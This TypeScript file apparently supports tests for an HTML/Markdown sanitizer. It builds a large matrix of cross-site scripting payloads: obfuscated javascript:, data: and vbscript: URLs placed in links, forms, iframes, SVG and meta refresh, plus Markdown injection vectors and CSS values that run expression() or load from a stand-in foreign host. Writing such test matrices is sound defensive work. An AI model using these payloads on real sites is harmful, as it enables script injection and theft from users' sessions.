import { FOREIGN_HOST } from "#tests/support/hostile-elements.ts";
import { type Make, quoted, words } from "./text-makers.ts";

/** Places for an address × ways to write a scheme that runs code. */
export function addresses(): Make[] {
  const places: ((address: string) => string)[] = [
    (address) => address,
    (address) => `<a href="${quoted(address)}">x</a>`,
    (address) => `<a href='${address.replaceAll("'", "&#39;")}' target=_self>x</a>`,
    (address) => `<svg><a xlink:href="${quoted(address)}"><text y=9>x</text></a></svg>`,
    (address) => `<math><mi href="${quoted(address)}">x</mi></math>`,
    (address) => `<form action="${quoted(address)}"><button autofocus>x</button></form>`,
    (address) => `<form><button formaction="${quoted(address)}">x</button></form>`,
    (address) => `<iframe src="${quoted(address)}"></iframe>`,
    (address) => `<iframe srcdoc="${quoted(`<a href='${address}'>x</a>`)}"></iframe>`,
    (address) => `<object data="${quoted(address)}"></object><embed src="${quoted(address)}">`,
    (address) => `<meta http-equiv=refresh content="0;url=${quoted(address)}">`,
    (address) => `<base href="${quoted(address)}"><a href=x>x</a>`,
    (address) =>
      `<img src="${quoted(address)}" srcset="${quoted(address)} 1x" usemap=#m><map name=m><area href="${quoted(address)}" shape=default></map>`,
    (address) => `[x](${address})`,
    (address) => `![x](<${address}> "x")`,
  ];
  const schemes: ((run: string) => string)[] = [
    (run) => `javascript:${run}`,
    (run) => `JaVaScRiPt:${run}`,
    (run) => ` \t\njavascript:${run}`,
    (run) => `java\tscript:${run}`,
    (run) => `java\r\nscript\n:${run}`,
    (run) => `\u0001javascript:${run}`,
    (run) => `&#106;&#97;&#x76;ascript&colon;${run}`,
    (run) => `javascript&NewLine;:${run}`,
    (run) => `javascript:/*--></title></style></textarea></script>*/${run}`,
    (run) => `javascript://a.example/%0a${run}`,
    (run) => `javascript://a.example/\u2028${run}`,
    (run) => `data:text/html,<script>parent.${run}</script>`,
    (run) => `data:text/html;base64,${Buffer.from(`<script>parent.${run}</script>`).toString("base64")}`,
    (run) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${run}'/>`,
    (run) => `vbscript:${run}`,
    (run) => `feed:javascript:${run}`,
    (run) => `https://a.example/"onmouseover=${run}//`,
    (run) => `mailto:a@b.example"onclick=${run}//`,
    (run) => `//${FOREIGN_HOST}/${run}`,
    (run) => `https:javascript:${run}`,
  ];
  return places.flatMap((place) => schemes.map((scheme) => (run: string) => place(scheme(run))));
}

/** What becomes an element or an address only when parsed as Markdown. */
export function markdown(): Make[] {
  return [
    (run) => `[a]: javascript:${run}\n[x][a]`,
    (run) => `[x](javascript&#58;${run})`,
    (run) => `<javascript:${run}>`,
    (run) => `![x](x" onerror="${run})`,
    (run) => `\`\`\`"><img src=x onerror=${run}>\n\`\`\``,
    (run) => `# <img src=x onerror=${run}>`,
    (run) => `| <svg onload=${run}> |\n|---|`,
    (run) => `---\ntitle: <img src=x onerror=${run}>\n---`,
    (run) => `[x](<javascript:${run}>)`,
    (run) => `[![x](x)](vbscript:${run})`,
    (run) => `<div\nonclick=${run}\n>x</div>`,
    (run) => `&lt;img src=x onerror=${run}&gt;`,
  ];
}

/** Properties × values that load or run something. */
export function styles(): Make[] {
  const values = [
    `url(//${FOREIGN_HOST}/a)`,
    "expression(RUN)",
    `url("javascript:RUN")`,
    `image-set("//${FOREIGN_HOST}/b" 1x)`,
    `\\75rl(//${FOREIGN_HOST}/c)`,
  ];
  const properties = words(
    "background background-image color text-align list-style cursor content behavior -moz-binding width",
  );
  return properties.flatMap((property) =>
    values.flatMap((value): Make[] => [
      (run) => `<p style="${quoted(`${property}:${value.replace("RUN", run)}`)}">x</p>`,
      (run) => `red;${property}:${value.replace("RUN", run)}`,
      (run) =>
        `</style><style>*{${property}:${value.replace("RUN", run)}}@import '//${FOREIGN_HOST}/d'</style>`,
    ]),
  );
}
